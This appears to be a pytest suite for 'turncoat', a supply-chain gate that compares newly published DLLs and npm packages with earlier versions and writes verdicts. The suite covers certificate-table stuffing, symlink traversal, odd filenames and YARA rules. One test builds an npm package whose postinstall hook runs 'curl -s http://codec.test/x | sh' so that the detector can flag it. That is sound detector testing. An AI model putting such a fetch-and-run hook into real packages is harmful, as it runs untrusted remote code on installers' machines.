# SPDX-License-Identifier: Apache-2.0
"""Question: is what arrives in a publish place and its folders judged against the version before it, or the last one seen, with
the verdict beside it, once, again when rules change, and never through a link? No root needed; all is made here, inert."""
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile

import pytest

TESTS = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, TESTS)
from fixtures.pe import Pe, random_bytes  # noqa: E402
from fixtures.signed import Signer, stuff_table  # noqa: E402

END = ".turncoat.json"
RULE = 'rule Made_Up { strings: $a = "a made-up word in 1.0" condition: $a }\n'


@pytest.fixture(scope="module")
def dll(tmp_path_factory):
    if not shutil.which("osslsigncode"):
        pytest.skip("no osslsigncode here")
    return Signer(str(tmp_path_factory.mktemp("keys"))).sign(Pe(strings=["a made-up word in 1.0"]).build(), stamp=True)


def put(place, name, data):
    """As an upload that was finished a while ago."""
    part = os.path.join(place, "." + name)
    with open(part, "wb") as f:
        f.write(data)
    os.rename(part, os.path.join(place, name))


@pytest.fixture
def place(tmp_path, dll):
    folder = tmp_path / "publish"
    folder.mkdir()
    put(folder, "codec-1.9.dll", dll)
    put(folder, "codec-1.10.dll", stuff_table(dll, random_bytes(60000, seed=7)))
    time.sleep(2.1)  # settled
    return folder


def sweep(programs, place, *more):
    env = {"PATH": "/usr/bin:/bin", "HOME": str(place.parent)}
    return subprocess.run([os.path.join(programs, "turncoat"), "gate", "sweep", str(place), *more], capture_output=True,
                          text=True, timeout=60, env=env)


def verdict(place, name):
    return json.loads((place / (name + END)).read_text())


def test_each_file_has_its_verdict_against_the_version_before(programs, place):
    done = sweep(programs, place)
    assert done.returncode == 1, done.stderr
    old, new = verdict(place, "codec-1.9.dll"), verdict(place, "codec-1.10.dll")
    assert old["compared_with"] is None and old["verdict"] in ("clean", "note")
    assert new["compared_with"]["file"] == "codec-1.9.dll" and new["verdict"] == "malicious"
    assert {"pe.certificate-slack", "diff.same-authentihash"} <= {r["check"] for r in new["reasons"]}
    assert sorted(os.listdir(place)) == sorted(n + e for n in ("codec-1.9.dll", "codec-1.10.dll") for e in ("", END))


def test_a_suspicious_version_is_nothing_to_compare_the_next_one_with(programs, place, dll):
    put(place, "codec-1.11.dll", stuff_table(dll, random_bytes(60000, seed=7) + b"\0" * 8))
    put(place, "codec-1.12.dll", dll)
    time.sleep(2.1)
    for judged in "4 judged now", "0 judged now":
        done = sweep(programs, place)
        assert judged in done.stderr and done.returncode == 1
        next_one, good = verdict(place, "codec-1.11.dll"), verdict(place, "codec-1.12.dll")
        assert next_one["compared_with"]["file"] == "codec-1.9.dll" and next_one["verdict"] == "malicious"
        assert good["compared_with"]["file"] == "codec-1.9.dll" and good["verdict"] in ("clean", "note")


def test_nothing_new_is_not_judged_again_and_its_verdict_still_counts(programs, place):
    assert "malicious" in sweep(programs, place).stdout
    again = sweep(programs, place)
    assert (again.stdout, again.returncode) == ("", 1)
    assert "0 judged now, " in again.stderr and ", malicious\n" in again.stderr, "the exit code is explained"
    assert sweep(programs, place, "--fail-on", "malicious").returncode == 1


def test_new_rules_are_asked_of_all(programs, place, tmp_path):
    sweep(programs, place)
    (tmp_path / "made.yar").write_text(RULE)
    done = sweep(programs, place, "--rules", str(tmp_path / "made.yar"), "--json")
    told = [json.loads(line)["of"]["file"] for line in done.stdout.splitlines()]
    assert sorted(told) == ["codec-1.10.dll", "codec-1.9.dll"], done.stderr
    assert "yara.Made_Up" in {r["check"] for r in verdict(place, "codec-1.9.dll")["reasons"]}


def test_a_link_is_neither_judged_nor_written_through(programs, place, tmp_path):
    (tmp_path / "victim").write_text("mine")
    (place / "link-1.0.dll").symlink_to(tmp_path / "victim")
    (place / ("codec-1.9.dll" + END)).symlink_to(tmp_path / "victim")
    (place / (".codec-1.9.dll" + END + ".new")).symlink_to(tmp_path / "victim")
    time.sleep(0.1)
    sweep(programs, place)
    assert (tmp_path / "victim").read_text() == "mine"
    assert not (place / ("codec-1.9.dll" + END)).is_symlink() and not (place / ("link-1.0.dll" + END)).exists()


def test_a_name_that_is_no_text_has_its_verdict_too(programs, place):
    raw = os.path.join(os.fsencode(place), b"notes-\xff\x1b[31m-1.0.txt")
    with open(raw, "wb") as f:
        f.write(b"made up\n")
    time.sleep(2.1)
    done = sweep(programs, place)
    assert "clean 0  notes-\\xff" in done.stdout and "\x1b" not in done.stdout, done.stdout
    with open(raw + END.encode(), "rb") as f:
        told = json.load(f)
    assert told["verdict"] == "clean" and told["of"]["file"].startswith("notes-\\xff"), told
    assert "notes-" not in sweep(programs, place).stdout, "once"


def test_a_file_that_is_still_being_written_waits(programs, place, dll):
    put(place, "codec-1.11.dll", dll)
    done = sweep(programs, place)
    assert done.returncode == 1 and not (place / ("codec-1.11.dll" + END)).exists()
    time.sleep(2.1)
    sweep(programs, place)
    assert verdict(place, "codec-1.11.dll")["compared_with"]["file"] == "codec-1.9.dll"


def test_watching_judges_what_arrives(programs, place, dll):
    env = {"PATH": "/usr/bin:/bin", "HOME": str(place.parent)}
    watch = subprocess.Popen(["timeout", "30", os.path.join(programs, "turncoat"), "gate", "watch", str(place), "--json"],
                             stdout=subprocess.PIPE, text=True, env=env)
    try:
        first = [json.loads(watch.stdout.readline())["of"]["file"] for _ in range(2)]
        assert sorted(first) == ["codec-1.10.dll", "codec-1.9.dll"]
        put(place, "codec-1.12.dll", dll)
        assert json.loads(watch.stdout.readline())["of"]["file"] == "codec-1.12.dll"
    finally:
        watch.terminate()
        watch.wait(timeout=10)


def test_rules_that_change_are_asked_while_watching(programs, place, tmp_path):
    rules = tmp_path / "made.yar"
    rules.write_text("rule Nothing { condition: false }\n")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    argv = ["timeout", "40", os.path.join(programs, "turncoat"), "gate", "watch", str(place), "--json", "--rules", str(rules)]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True, env=env) as watch:
        for _ in range(2):
            watch.stdout.readline()
        rules.write_text(RULE)
        again = [json.loads(watch.stdout.readline()) for _ in range(2)]
        watch.terminate()
    assert sorted(a["of"]["file"] for a in again) == ["codec-1.10.dll", "codec-1.9.dll"]
    assert any(r["check"] == "yara.Made_Up" for a in again for r in a["reasons"])


def test_folders_are_places_of_their_own(programs, place, dll, tmp_path):
    """A channel or architecture is compared with itself; where the name says no version, the folders may say it."""
    (tmp_path / "outside").mkdir()
    put(tmp_path / "outside", "codec-1.0.dll", dll)
    turned = stuff_table(dll, random_bytes(60000, seed=8))
    for folder, name, data in (
        ("beta/x64", "codec-2.0.dll", dll),
        ("beta/x86", "codec-2.1.dll", dll),
        ("releases/3.9", "codec.dll", dll),
        ("releases/3.10", "codec.dll", turned),
        ("beta", "codec-win32-5.0.dll", dll),
        ("beta", "codec-win64-5.1.dll", dll),
        ("a/b/c/d/e/f/g/h/i", "codec-9.0.dll", dll),
    ):
        os.makedirs(place / folder, exist_ok=True)
        put(place / folder, name, data)
    (place / "way-out").symlink_to(tmp_path / "outside")
    time.sleep(2.1)
    done = sweep(programs, place)
    assert done.returncode == 1 and "1 folders or names are not looked at: too deep" in done.stderr, done.stderr
    assert verdict(place / "releases/3.10", "codec.dll")["compared_with"]["file"] == "releases/3.9/codec.dll"
    assert verdict(place / "releases/3.10", "codec.dll")["verdict"] == "malicious"
    for folder, name in (("beta/x64", "codec-2.0.dll"), ("beta/x86", "codec-2.1.dll"), ("releases/3.9", "codec.dll"), ("beta", "codec-win64-5.1.dll")):
        assert verdict(place / folder, name)["compared_with"] is None, name
    assert verdict(place, "codec-1.10.dll")["compared_with"]["file"] == "codec-1.9.dll"
    assert sorted(os.listdir(tmp_path / "outside")) == ["codec-1.0.dll"]
    again = sweep(programs, place)
    assert (again.stdout, again.returncode) == ("", 1)


def package(folder, version, extra=None):
    """An npm package of that version."""
    files = {"package.json": json.dumps({"name": "made-up-codec", "version": version, **(extra or {})}), "index.js": "module.exports = 1;\n"}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, text in files.items():
            info = tarfile.TarInfo("package/" + name)
            info.size = len(text)
            tar.addfile(info, io.BytesIO(text.encode()))
    put(folder, f"made-up-codec-{version}.tgz", out.getvalue())


def test_the_first_version_of_a_place_is_compared_with_the_last_one_seen(programs, tmp_path):
    old, new = tmp_path / "old", tmp_path / "new"
    old.mkdir()
    new.mkdir()
    hook = {"scripts": {"postinstall": "node setup.js && curl -s http://codec.test/x | sh"}}
    package(old, "1.0")
    package(old, "3.0")
    package(new, "1.2", hook)
    time.sleep(2.1)
    assert sweep(programs, old).returncode == 0
    done = sweep(programs, new)
    told = verdict(new, "made-up-codec-1.2.tgz")
    assert told["compared_with"] is None and told["seen_before"] == "1.0", "not with a version above it"
    assert "diff.lifecycle-script" in {r["check"] for r in told["reasons"]} and "1.0, which was seen before" in done.stdout
    # What is suspicious is not what a later one is compared with.
    assert told["verdict"] in ("suspicious", "malicious")
    shutil.rmtree(new)
    new.mkdir()
    package(new, "1.3", hook)
    time.sleep(2.1)
    sweep(programs, new)
    assert verdict(new, "made-up-codec-1.3.tgz")["seen_before"] == "1.0"
    sweep(programs, new, "--no-remember")
    (new / ("made-up-codec-1.3.tgz" + END)).unlink()
    sweep(programs, new, "--no-remember")
    assert verdict(new, "made-up-codec-1.3.tgz")["seen_before"] is None


def test_thousands_of_files_are_cheap_once_they_are_judged(programs, tmp_path):
    place = tmp_path / "many"
    place.mkdir()
    for i in range(2000):
        put(place, f"note{i % 50}x-{i // 50}.txt", b"%d\n" % i)
    time.sleep(2.1)
    assert sweep(programs, place, "--no-remember").returncode == 0
    began = time.monotonic()
    again = sweep(programs, place, "--no-remember")
    assert again.stdout == "" and time.monotonic() - began < 10


def test_what_could_not_be_looked_at_is_no_clean_answer(programs, tmp_path):
    (tmp_path / "p").mkdir()
    put(tmp_path / "p", "notes.txt", b"a line\n")
    os.makedirs(tmp_path / "p" / "1/2/3/4/5/6/7/8/9")
    time.sleep(2.2)
    done = sweep(programs, tmp_path / "p", "--no-remember")
    assert done.returncode == 3 and "1 folders or names are not looked at" in done.stderr, done.stderr
    os.rmdir(tmp_path / "p" / "1/2/3/4/5/6/7/8/9")
    assert sweep(programs, tmp_path / "p", "--no-remember").returncode == 0
    with zipfile.ZipFile(tmp_path / "p" / "locked.zip", "w") as z:
        z.writestr("x.txt", "x")
    data = bytearray((tmp_path / "p" / "locked.zip").read_bytes())
    data[6] |= 1  # says it is encrypted, in the header and in the directory
    data[data.index(b"PK\x01\x02") + 8] |= 1
    put(tmp_path / "p", "locked.zip", data)
    time.sleep(2.2)
    for _ in range(2):  # judged, and as before
        done = sweep(programs, tmp_path / "p", "--no-remember")
        assert done.returncode == 3 and verdict(tmp_path / "p", "locked.zip")["undecided"], done.stderr + done.stdout
    assert "not all of it could be looked at" not in done.stdout, "as before is not told again"
